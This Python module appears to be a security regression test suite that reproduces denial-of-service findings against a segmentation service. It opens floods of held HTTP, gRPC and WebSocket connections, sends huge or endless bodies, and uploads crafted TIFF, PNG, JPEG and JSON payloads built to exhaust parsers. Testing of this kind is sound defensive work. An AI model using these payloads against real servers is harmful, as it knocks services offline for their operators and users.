"""Traffic of clients that want a server to stop, each as a function that sends it once.

Each takes the server and an event that is set when it should end. They are the reproductions of the findings that
SECURITY.md names, at their full size; errors of theirs are nobody's concern.
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import json
import socket
import struct
import threading
import zlib
from collections.abc import Callable, Iterator
from functools import cache

import cv2
import grpc
import numpy as np
from grpc_health.v1 import health_pb2, health_pb2_grpc
from served import Served

from geminifusion_service.pb import segmentation_pb2 as pb

Attack = Callable[[Served, threading.Event], None]
_GET = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
_POST = b"POST /v1/segment HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
_UPGRADE = (
    b"GET /v1/stream HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(b"a" * 16) + b"\r\n\r\n"
)
_MB = 1_000_000


@contextlib.contextmanager
def _connections(server: Served, count: int, protocol: str = "http") -> Iterator[list[socket.socket]]:
    with contextlib.ExitStack() as stack:
        yield [
            stack.enter_context(socket.create_connection((server.host, server.port(protocol)), 30))
            for _ in range(count)
        ]


@contextlib.contextmanager
def _channel(server: Served) -> Iterator[grpc.Channel]:
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
    with grpc.insecure_channel(f"{server.host}:{server.grpc_port}", options=options) as channel:
        yield channel


def _post(server: Served, path: str, body: bytes, content_type: str, **headers: str) -> None:
    connection = http.client.HTTPConnection(server.host, server.http_port, timeout=60)
    try:
        connection.request("POST", path, body, {"Content-Type": content_type, **headers})
        connection.getresponse().read()
    finally:
        connection.close()


def _post_images(server: Served, query: str = "", **images: bytes) -> None:
    parts = [
        b'--XB\r\nContent-Disposition: form-data; name="%b"\r\n\r\n%b\r\n' % (name.encode(), data)
        for name, data in images.items()
    ]
    _post(server, f"/v1/segment{query}", b"".join(parts) + b"--XB--\r\n", "multipart/form-data; boundary=XB")


def _open_stream(connection: socket.socket) -> None:
    connection.sendall(_UPGRADE)
    connection.recv(65536)


def trailers(server: Served, stop: threading.Event) -> None:
    """V02: 30 MB of trailers."""
    with _connections(server, 1) as (one,):
        one.sendall(_GET + _CHUNKED + b"0\r\n")
        for _ in range(75):
            if stop.is_set():
                return
            one.sendall(b"a:\r\n" * 100_000)


def announced_bodies(server: Served, stop: threading.Event) -> None:
    """V07: eight bodies of 64 MB that do not come."""
    with _connections(server, 8) as held:
        for one in held:
            one.sendall(_POST + b"Content-Length: 67108864\r\n\r\n")
        stop.wait(5)


def chunked_bodies(server: Served, stop: threading.Event) -> None:
    """V08: fourteen bodies of 60 MB that do not end."""
    with _connections(server, 14) as held:
        for one in held:
            one.sendall(_POST + _CHUNKED)
        for _ in range(60):
            for one in held:
                with contextlib.suppress(OSError):
                    one.sendall(b"f4240\r\n" + bytes(_MB) + b"\r\n")
        stop.wait(3)


def grpc_messages(server: Served, stop: threading.Event) -> None:
    """V08: 24 messages of 60 MB at once."""
    message = pb.SegmentRequest(images={"rgb": _png(320, 240) + bytes(60 * _MB)}).SerializeToString()

    def send() -> None:
        with _channel(server) as channel, contextlib.suppress(grpc.RpcError):
            channel.unary_unary("/geminifusion.v1.Segmentation/Segment")(message, timeout=60)

    _at_once(send, 24)


def websocket_messages(server: Served, stop: threading.Event) -> None:
    """V08: sixteen messages of 60 MB that do not end."""
    with _connections(server, 16) as held:
        for one in held:
            _open_stream(one)
            one.sendall(b"\x02\xff" + struct.pack(">Q", 61 * _MB) + bytes(4))
        for _ in range(60):
            for one in held:
                with contextlib.suppress(OSError):
                    one.sendall(bytes(_MB))
        stop.wait(3)


def watches(server: Served, stop: threading.Event) -> None:
    """V09: 300 watches of health."""
    with _channel(server) as channel:
        stub = health_pb2_grpc.HealthStub(channel)
        held = [stub.Watch(health_pb2.HealthCheckRequest()) for _ in range(300)]
        stop.wait(4)
        for one in held:
            one.cancel()


def silent_connections(server: Served, stop: threading.Event) -> None:
    """V12: 400 connections without a word to either port."""
    with _connections(server, 400, "grpc"), _connections(server, 400):
        stop.wait(4)


def fragments(server: Served, stop: threading.Event) -> None:
    """V17: 12 MB of fragments without content."""
    with _connections(server, 1) as (one,):
        _open_stream(one)
        one.sendall(b"\x02\x80" + bytes(4))
        for _ in range(20):
            if stop.is_set():
                return
            one.sendall((b"\0\x80" + bytes(4)) * 100_000)


def upgrades_with_bodies(server: Served, stop: threading.Event) -> None:
    """O1: 31 upgrades that nobody responds to."""
    head = _POST + b"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 5\r\n\r\n"
    with _connections(server, 31) as held:
        for one in held:
            one.sendall(head + b"hello")
        stop.wait(3)


def large_pictures(server: Served, stop: threading.Event) -> None:
    """P8: 24 pairs of 12 megapixels at once."""
    rgb, depth = _photograph()
    _at_once(lambda: _post_images(server, "?deadline_ms=45000", rgb=rgb, depth=depth), 24)


def empty_pictures(server: Served, stop: threading.Event) -> None:
    """V14: 60 pairs of 32 megapixels at once, 156 kB each."""
    rgb, depth = _png(8000, 4000), _png(8000, 4000, bits=16, color_type=0)
    _at_once(lambda: _post_images(server, "?format=overlay&deadline_ms=45000", rgb=rgb, depth=depth), 60)


def shared_tags(server: Served, stop: threading.Event) -> None:
    """V01: a TIFF of 2 MB with 100 tags that share one array."""
    size, tags = 2 * _MB, 100
    at = 14 + 12 * tags
    count = (size - at) // 2
    entries = b"".join(struct.pack("<HHII", 1000 + index, 3, count, at) for index in range(tags))
    tiff = b"II*\0" + struct.pack("<IH", 8, tags) + entries + bytes(4) + bytes(2 * count)
    _post_images(server, rgb=_png(64, 64), depth=tiff)


def long_text_among_short(server: Served, stop: threading.Event) -> None:
    """V03: 90 kB of JSON whose array of texts takes 2 GB."""
    texts = b'"' + b"a" * 50_000 + b'"' + b',"b"' * 10_000
    body = b'{"inputs":[{"name":"rgb","datatype":"UINT8","shape":[2],"data":[' + texts + b"]}]}"
    _post(server, f"/v2/models/{_model(server)}_raw/infer", body, "application/json")


def many_scans(server: Served, stop: threading.Event) -> None:
    """V04: two JPEGs of 1 MB with 20,000 scans."""
    _at_once(lambda: _post_images(server, "?deadline_ms=2000", rgb=_scans(5656, 5656, 20_000)), 2)


def brackets(server: Served, stop: threading.Event) -> None:
    """V05: 60 MB of empty lists."""
    _post(server, "/v1/segment", b'{"rgb":[' + b"[]," * (20 * _MB) + b"[]]}", "application/json")
    _post(
        server, f"/v2/models/{_model(server)}/infer", b'{"inputs":[' + b"[]," * (20 * _MB) + b"[]]}", "application/json"
    )


def empty_elements(server: Served, stop: threading.Event) -> None:
    """V06: fifteen million elements without bytes."""
    count = 15 * _MB
    head = json.dumps(
        {
            "inputs": [
                {"name": "rgb", "datatype": "BYTES", "shape": [count], "parameters": {"binary_data_size": 4 * count}}
            ]
        }
    ).encode()
    path, length = f"/v2/models/{_model(server)}/infer", {"Inference-Header-Content-Length": str(len(head))}
    _post(server, path, head + bytes(4 * count), "application/octet-stream", **length)


def empty_chunks(server: Served, stop: threading.Event) -> None:
    """V15: a PNG with five million chunks without data."""
    _post_images(server, rgb=_png(320, 240, more=_chunk(b"IDAT", b"") * (5 * _MB)))


def large_tile(server: Served, stop: threading.Event) -> None:
    """V16: a TIFF of 151 bytes with a tile of a gigabyte."""
    packed = zlib.compress(bytes(1000))
    values = [(256, 320), (257, 240), (258, 16), (259, 8), (262, 1), (277, 1), (322, 21008), (323, 21008), (324, 134)]
    entries = [struct.pack("<HHII", tag, 4, 1, value) for tag, value in (*values, (325, len(packed)))]
    tiff = b"II*\0" + struct.pack("<IH", 8, len(entries)) + b"".join(entries) + bytes(4) + packed
    _post_images(server, rgb=_png(320, 240), depth=tiff)


TRANSPORT: tuple[Attack, ...] = (
    trailers,
    announced_bodies,
    chunked_bodies,
    grpc_messages,
    websocket_messages,
    watches,
    silent_connections,
    fragments,
    upgrades_with_bodies,
    large_pictures,
    empty_pictures,
)
PARSERS: tuple[Attack, ...] = (
    shared_tags,
    long_text_among_short,
    many_scans,
    brackets,
    empty_elements,
    empty_chunks,
    large_tile,
)


def _at_once(send: Callable[[], None], count: int) -> None:
    def quietly() -> None:
        with contextlib.suppress(OSError, http.client.HTTPException):
            send()

    threads = [threading.Thread(target=quietly) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@cache
def _model(server: Served) -> str:
    connection = http.client.HTTPConnection(server.host, server.http_port, timeout=60)
    connection.request("GET", "/v1/models")
    name: str = json.loads(connection.getresponse().read())["models"][0]["name"]
    connection.close()
    return name


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def _png(width: int, height: int, *, bits: int = 8, color_type: int = 2, more: bytes = b"") -> bytes:
    row = bytes(1 + width * {0: 1, 2: 3}[color_type] * bits // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, bits, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + more + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


@cache
def _photograph() -> tuple[bytes, bytes]:
    noise = np.random.default_rng(0).integers(0, 255, (300, 400, 3), dtype=np.uint8)
    rgb = cv2.imencode(".jpg", cv2.resize(noise, (4000, 3000)))[1].tobytes()
    depth = np.full((3000, 4000), 2000, np.uint16)
    return rgb, cv2.imencode(".png", depth)[1].tobytes()


@cache
def _scans(width: int, height: int, count: int) -> bytes:
    blocks = -(-((width + 7) // 8) * ((height + 7) // 8) // 32767)
    bits = ("0" + "1" * 14) * blocks
    bits += "1" * (-len(bits) % 8)
    scan = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    components = b"".join(bytes([index, 0x11, 0]) for index in (1, 2, 3))
    head = b"\xff\xd8\xff\xdb" + struct.pack(">HB", 67, 0) + bytes([1] * 64)
    head += b"\xff\xc2" + struct.pack(">HBHHB", 17, 8, height, width, 3) + components
    head += b"\xff\xc4" + struct.pack(">HB", 20, 0) + bytes([1] + [0] * 15) + b"\0"
    head += b"\xff\xc4" + struct.pack(">HB", 20, 16) + bytes([1] + [0] * 15) + b"\xe0"
    scans = (
        b"\xff\xda" + struct.pack(">HB", 8, 1) + bytes([1 + index % 3, 0, 1, 63, 0]) + scan for index in range(count)
    )
    return head + b"".join(scans) + b"\xff\xd9"
